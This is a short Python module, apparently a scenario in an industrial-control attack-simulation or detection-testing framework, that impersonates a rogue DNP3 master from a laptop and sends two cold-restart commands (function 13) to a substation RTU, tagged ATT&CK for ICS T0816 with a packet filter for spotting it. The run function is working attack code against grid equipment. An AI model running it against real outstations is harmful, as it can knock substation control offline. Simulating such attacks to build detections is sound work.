"""The outstation is restarted."""

from __future__ import annotations

import opendnp3 as dnp3

from ..clients.scada_dnp3 import master
from ..node import Node

TITLE = "DNP3 cold restart of the substation's outstation by a new master"
TECHNIQUES = ("T0816",)
ORIGIN = "laptop"
ENTITIES = ("laptop", "rtu-substation")
EVIDENCE = "dnp3.al.func == 13 && ip.src == 10.20.1.99"

ROGUE_ADDRESS = 100


def run(node: Node) -> None:
    """Function 13, twice."""
    manager, station = master(node, ROGUE_ADDRESS, reconnect=20)
    station.Enable()
    node.pause(1.2)
    for _ in range(2):
        station.Restart(dnp3.RestartType.COLD, lambda result: None)
        node.pause(1.0)
    manager.Shutdown()
